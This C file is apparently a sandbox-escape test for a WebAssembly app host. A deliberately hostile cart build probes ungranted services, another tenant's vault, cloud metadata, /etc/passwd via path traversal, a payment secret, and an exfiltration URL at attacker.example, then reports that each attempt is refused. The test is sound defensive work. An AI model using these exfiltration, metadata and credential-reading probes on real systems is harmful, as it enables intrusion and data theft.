// A hostile build of the cart: deployed in its place (same app, same grants:
// kv, log, and service calls to the catalogue only), it ignores the request
// and tries everything it can think of to reach beyond those grants — other
// services of the shop, another tenant's app, KV stores it was not given,
// outbound HTTP, variables (checkout's payment secret), files, the clock,
// randomness, sockets — and reports what each attempt got. Every one is
// refused; only the granted edge (a read from the catalogue) answers.
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>
#include <wasi/api.h>
#include "uniwasm_http.h"
#include "uniwasm_kv.h"
#include "uniwasm_log.h"
#include "uniwasm_service.h"
#include "uniwasm_variables.h"
#include "wagi.h"

static int attempts, refused;

static void report(const char *what, int err, const char *detail) {
  attempts++;
  if (err) refused++;
  printf("%-44s %s%s%s\n", what, err ? "refused: " : "allowed", err ? errno_name(err) : "", detail ? detail : "");
}

static void service(const char *app, const char *input) {
  char what[96], answer[256], detail[300];
  uint32_t status = 0;
  snprintf(what, sizeof what, "service call %s", app);
  uniwasm_errno e = call_service(app, input, &status, answer, sizeof answer);
  char *nl = strchr(answer, '\n');
  if (nl) *nl = 0;
  snprintf(detail, sizeof detail, " (status %u: %.60s)", status, answer);
  report(what, e, e ? 0 : detail);
}

static void kv_store(const char *name) {
  char what[300];
  uniwasm_kv_store s;
  snprintf(what, sizeof what, "kv open store \"%.30s%s\"", name, strlen(name) > 30 ? "..." : "");
  report(what, uniwasm_kv_open(name, strlen(name), &s), 0);
}

static void http(const char *url) {
  char what[128];
  uint32_t status;
  uniwasm_http_response r;
  snprintf(what, sizeof what, "http GET %s", url);
  report(what, uniwasm_http_send("GET", 3, url, strlen(url), "", 0, "", 0, &status, &r), 0);
}

static void file(const char *path) {
  char what[128];
  snprintf(what, sizeof what, "open %s", path);
  int fd = open(path, O_RDONLY);
  report(what, fd < 0 ? errno : 0, 0);
  if (fd >= 0) close(fd);
}

int main(void) {
  read_body(0);
  respond(200, 0);
  printf("hostile cart, build 6.6.6: trying every door\n");

  // Services: the shop's others (not granted to the cart), itself, another tenant's app, odd names.
  service("checkout", "clear alice");
  service("pricing", "tea 1");
  service("cart", "show alice");
  service("vault", "put stolen yes");
  service("rival/vault", "put stolen yes");
  service("../rival/vault", "");
  service("CHECKOUT", "");
  // KV stores: checkout's and the catalogue's shared inventory, the other tenant's, internal names.
  kv_store("inventory");
  kv_store("vault");
  kv_store("orders");
  kv_store("shared:inventory");
  kv_store("app:checkout");
  kv_store("../inventory");
  char long_name[200];
  memset(long_name, 'x', sizeof long_name - 1);
  long_name[sizeof long_name - 1] = 0;
  kv_store(long_name);
  // Outbound HTTP (not granted): the node's own API, cloud metadata, an exfiltration host.
  http("http://127.0.0.1:7070/v1/tenants");
  http("http://169.254.169.254/latest/meta-data/");
  http("https://attacker.example/exfil?data=carts");
  // Variables (not granted): checkout's payment secret.
  char secret[128];
  size_t len;
  report("variable payment_key", uniwasm_variables_get("payment_key", 11, secret, sizeof secret, &len), 0);
  // Files: nothing is preopened for the cart.
  file("/etc/passwd");
  file("../../../etc/passwd");
  file("/data/products.txt");
  __wasi_fd_t fd;
  report("path_open on descriptor 3", __wasi_path_open(3, 0, "etc/passwd", 0, __WASI_RIGHTS_FD_READ, 0, 0, &fd), 0);
  // WASI calls the manifest does not grant: clocks, randomness, sockets.
  __wasi_timestamp_t now;
  report("clock_time_get", __wasi_clock_time_get(__WASI_CLOCKID_REALTIME, 1, &now), 0);
  uint8_t noise[16];
  report("random_get", __wasi_random_get(noise, sizeof noise), 0);
  report("sock_accept on descriptor 3", __wasi_sock_accept(3, 0, &fd), 0);
  // The one edge it is granted: a read from the catalogue (which only answers reads).
  service("catalogue", "get tea");

  printf("%d attempts: %d refused, %d allowed\n", attempts, refused, attempts - refused);
  log_line(UNIWASM_LOG_INFO, "hostile cart: %d attempts, %d refused", attempts, refused);
  return 0;
}
